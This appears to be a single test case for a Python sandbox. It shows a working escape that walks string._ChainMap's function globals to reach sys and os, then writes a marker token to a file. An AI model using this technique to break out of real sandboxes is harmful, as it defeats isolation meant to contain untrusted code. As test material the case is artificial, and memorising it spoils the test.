# id: intro-string-chainmap-globals
# category: introspection
# description: string._ChainMap is a class from collections: its methods' __globals__ hold collections' _sys
# source: module attribute walk through function.__globals__; string is on the talk's whitelist
# detect: token (the token lands in OUT)
import string

sys_module = string._ChainMap.__init__.__globals__['_sys']
os_module = sys_module.modules['os']

fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
